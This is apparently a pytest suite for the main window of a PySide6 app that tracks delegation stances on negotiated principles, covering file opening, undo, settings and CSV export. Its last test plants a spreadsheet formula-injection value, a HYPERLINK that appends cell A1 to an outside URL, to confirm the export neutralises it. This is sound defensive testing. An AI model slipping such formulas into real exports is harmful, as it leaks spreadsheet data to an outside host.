"""The main window: opening files, status bar, undo/redo menu, settings, drag and drop, screenshots."""

from pathlib import Path

import pytest
from PySide6.QtCore import QMimeData, QPoint, Qt, QUrl
from PySide6.QtGui import QDropEvent, QImage

from qroundtable.roundtable import Roundtable
from qroundtable.ui.main_window import VIEWS, MainWindow


@pytest.fixture
def window(qtbot, settings):
    w = MainWindow(settings)
    w.session.errors = []
    w.session.report_error = w.session.errors.append
    qtbot.addWidget(w)
    return w


def opened(window, path) -> bool:
    """Open `path` as File ▸ Open does, and wait until the window shows it."""
    pending = window.open_path(path)
    return pending is not None and pending.wait()


def test_status_bar_says_whose_copy_and_what_is_unsent(window, demo_path):
    assert opened(window, demo_path)
    assert window.copy_label.text() == "Secretariat — US"
    assert window.file_label.text() == "demo.qrt"
    assert window.unsent_label.text() == "0 changes not yet in a release"  # the master's changes go out in one
    assert window.session.apply(lambda rt: rt.positions.set("JP", 4, "support")).wait()
    assert window.unsent_label.text() == "4 changes not yet in a release"  # stance, by, when, a history row


def test_delegation_copy_is_named_in_the_status_bar(window, demo_path, tmp_path):
    with Roundtable.open(demo_path) as rt:
        rt.save_delegation_copy(tmp_path / "jp.qrt", "JP")
    assert opened(window, tmp_path / "jp.qrt")
    assert window.copy_label.text() == "Delegation — Japan"


def test_undo_and_redo_actions_follow_the_change_record(window, demo_path, settle):
    assert opened(window, demo_path)
    assert not window.undo_action.isEnabled()  # the demo build is not undoable
    rt = window.session.rt
    assert window.session.apply(lambda rt: rt.positions.set("CH", 4, "support")).wait()
    assert window.undo_action.isEnabled() and "CH" in window.undo_action.text()
    window.undo_action.trigger()
    settle(window.session)
    assert rt.positions.get("CH", 4).stance.value == "object"
    assert window.redo_action.isEnabled()
    window.redo_action.trigger()
    settle(window.session)
    assert rt.positions.get("CH", 4).stance.value == "support"


def test_a_damaged_file_is_reported_and_the_open_one_stays(window, demo_path, tmp_path):
    assert opened(window, demo_path)
    bad = tmp_path / "bad.qrt"
    bad.write_bytes(b"not a roundtable" * 100)
    before = bad.read_bytes()
    assert not opened(window, bad)
    assert len(window.session.errors) == 1 and "not a roundtable file" in window.session.errors[0]
    assert window.session.path == demo_path
    assert bad.read_bytes() == before


def test_settings_keep_last_file_recent_files_and_view(qtbot, settings, demo_path):
    first = MainWindow(settings)
    qtbot.addWidget(first)
    assert opened(first, demo_path)
    first.show_view("consensus")
    first.close()
    assert settings.value("last_file") == str(demo_path)
    second = MainWindow(settings)
    qtbot.addWidget(second)
    assert second.sidebar.currentRow() == [k for k, _, _ in VIEWS].index("consensus")
    assert [a.text() for a in second.recent_menu.actions()] == [str(demo_path)]


def test_dropping_a_roundtable_file_opens_it(window, demo_path, settle):
    mime = QMimeData()
    mime.setUrls([QUrl.fromLocalFile(str(demo_path))])
    event = QDropEvent(QPoint(10, 10), Qt.DropAction.CopyAction, mime, Qt.MouseButton.LeftButton,
                       Qt.KeyboardModifier.NoModifier)
    window.dropEvent(event)
    settle(window.session)
    assert window.session.path == demo_path


def test_view_shortcuts_switch_the_page(window, demo_path):
    assert opened(window, demo_path)
    for i in range(len(VIEWS)):
        window.show_view(i)
        assert window.stack.currentIndex() == i


def test_consensus_export_writes_every_principle(window, demo_path, tmp_path):
    assert opened(window, demo_path)
    out = tmp_path / "consensus.csv"
    window.write_consensus_csv(out)
    lines = out.read_text().splitlines()
    assert lines[0].startswith("principle,title,status")
    assert len(lines) == 1 + 7 and lines[4].startswith("4,") and ",contested," in lines[4]


def test_screenshot_writes_a_non_blank_png_per_view(demo_path, tmp_path, qapp):
    from click.testing import CliRunner

    from qroundtable.cli import cli

    result = CliRunner().invoke(cli, ["--db", str(demo_path), "screenshot", "--out", str(tmp_path / "shots")])
    assert result.exit_code == 0, result.output
    files = [Path(line) for line in result.output.split()]
    assert [f.name for f in files] == [f"{i + 1:02d}-{key}.png" for i, (key, _, _) in enumerate(VIEWS)]
    for f in files:
        image = QImage(str(f))
        assert image.width() >= 1000 and image.height() >= 700
        colours = {image.pixel(x, y) for x in range(0, image.width(), 37) for y in range(0, image.height(), 29)}
        assert len(colours) > 20, f"{f.name} looks blank"


def test_a_stance_keyed_in_the_matrix_reaches_the_consensus_view_and_undo_restores_it(qtbot, window, demo_path,
                                                                                       settle):
    from PySide6.QtCore import QItemSelectionModel

    assert opened(window, demo_path)
    matrix = window.show_view("positions")
    consensus = window.views["consensus"]
    rt = window.session.rt

    def status_of_4():
        consensus.bring_up_to_date()  # what showing the page does; once current, it follows each edit
        return consensus.model.consensus_at(consensus.model.row_of(4)).status.value

    assert status_of_4() == "contested"  # CH objects to principle 4 in the demo
    ch = next(d for d in rt.delegations.list() if d.code == "CH")
    index = matrix.model.cell_index(ch.id, rt.principles.get(4).id)
    matrix.table.selectionModel().setCurrentIndex(index, QItemSelectionModel.SelectionFlag.ClearAndSelect)
    qtbot.keyClick(matrix.table, Qt.Key.Key_1)  # 1 = support
    settle(window.session)
    assert rt.positions.get("CH", 4).stance.value == "support"
    assert status_of_4() == "near"  # JP's reservation and DE's amendments remain
    window.undo_action.trigger()
    settle(window.session)
    assert rt.positions.get("CH", 4).stance.value == "object"
    assert status_of_4() == "contested"
    assert window.session.errors == []


# -- nothing typed is lost ------------------------------------------------------------------------------


NEW_TEXT = "Promote scientific collaboration [worldwide|among partners]."


def type_principle_text(window, number: int, text: str):
    view = window.show_view("principles")
    view.select_principle(number)
    view.text_panel.editor.setPlainText(text)
    return view


def test_typed_text_is_asked_about_before_another_file_opens(window, demo_path, tmp_path):
    from qroundtable.demo import build_demo

    other = tmp_path / "other.qrt"
    build_demo(other).close()
    assert opened(window, demo_path)
    type_principle_text(window, 1, NEW_TEXT)
    asked = []
    window.session.ask_unsaved = lambda items, can_save: asked.append((items, can_save)) or "cancel"
    assert window.open_path(other) is None  # cancelled: the file and the typing stay
    assert asked == [(["the edited text of principle 1"], True)]
    assert window.session.path == demo_path
    assert window.views["principles"].text_panel.editor.toPlainText() == NEW_TEXT

    window.session.ask_unsaved = lambda items, can_save: "save"
    assert opened(window, other)
    with Roundtable.open(demo_path) as rt:  # saved into the file it was typed for, before the other opened
        assert rt.principles.get(1).text == NEW_TEXT and rt.principles.get(1).current.seq == 2
    with Roundtable.open(other) as rt:
        assert rt.principles.get(1).current.seq == 1


def test_closing_the_window_asks_and_cancel_keeps_it_open(qtbot, settings, demo_path):
    window = MainWindow(settings)
    qtbot.addWidget(window)
    window.session.errors = []
    window.session.report_error = window.session.errors.append
    assert opened(window, demo_path)
    window.show()
    type_principle_text(window, 2, "Incorporate expertise.")
    window.views["principles"].note_panel.editor.setPlainText("Ask capital")  # not yet left: not yet saved
    answers = ["cancel", "discard"]
    asked = []
    window.session.ask_unsaved = lambda items, can_save: asked.append(items) or answers.pop(0)
    assert not window.close() and window.isVisible()
    assert asked[0] == ["the edited text of principle 2", "your private note on principle 2"]
    assert window.close()
    with Roundtable.open(demo_path) as rt:  # discarded
        assert rt.principles.get(2).current.seq == 1 and rt.notes.get(2) == ""


def test_closing_saves_when_asked_to_and_waits_for_every_edit(qtbot, settings, demo_path):
    window = MainWindow(settings)
    qtbot.addWidget(window)
    assert opened(window, demo_path)
    window.show()
    type_principle_text(window, 3, "Share best practices [to grow|for growing] the talent base.")
    for n in (1, 2, 3, 4):  # queued edits the window must not close before writing
        window.session.apply(lambda rt, n=n: rt.positions.set("KR", n, "abstain"))
    window.session.ask_unsaved = lambda items, can_save: "save"
    assert window.close()
    with Roundtable.open(demo_path) as rt:
        assert rt.principles.get(3).text == "Share best practices [to grow|for growing] the talent base."
        assert [rt.positions.get("KR", n).stance.value for n in (1, 2, 3, 4)] == ["abstain"] * 4


def test_a_delegation_cannot_save_a_text_so_it_is_offered_discard_or_cancel(window, demo_path, tmp_path):
    with Roundtable.open(demo_path) as rt:
        rt.save_delegation_copy(tmp_path / "jp.qrt", "JP")
    assert opened(window, tmp_path / "jp.qrt")
    type_principle_text(window, 1, NEW_TEXT)
    asked = []
    window.session.ask_unsaved = lambda items, can_save: asked.append(can_save) or "cancel"
    assert window.open_path(demo_path) is None
    assert asked == [False]


def test_the_status_bar_count_falls_on_undo_and_ignores_private_notes(window, demo_path, tmp_path, settle):
    with Roundtable.open(demo_path) as rt:
        rt.save_delegation_copy(tmp_path / "jp.qrt", "JP")
    assert opened(window, tmp_path / "jp.qrt")
    window.session.apply(lambda rt: rt.positions.set("JP", 4, "support"))
    settle(window.session)
    assert window.unsent_label.text() == "5 changes not yet sent"  # stance, comment, by, when, a history row
    window.undo_action.trigger()
    settle(window.session)
    assert window.unsent_label.text() == "0 changes not yet sent"
    window.session.apply(lambda rt: rt.notes.set(1, "Private: never sent"))
    settle(window.session)
    assert window.unsent_label.text() == "0 changes not yet sent"


def test_the_consensus_csv_never_carries_a_formula_and_matches_the_command_line(window, demo_path, tmp_path, settle):
    from click.testing import CliRunner

    from qroundtable.cli import cli

    assert opened(window, demo_path)
    window.session.apply(lambda rt: rt.principles.retitle(3, '=HYPERLINK("https://example.org/?"&A1,"P3")'))
    settle(window.session)
    out = tmp_path / "consensus.csv"
    window.write_consensus_csv(out)
    line = out.read_text().splitlines()[3]
    assert line.startswith("3,\"'=HYPERLINK(")
    cli_csv = CliRunner().invoke(cli, ["--db", str(demo_path), "consensus", "--format", "csv"]).stdout
    assert out.read_text() == cli_csv  # one table, whichever way it is exported
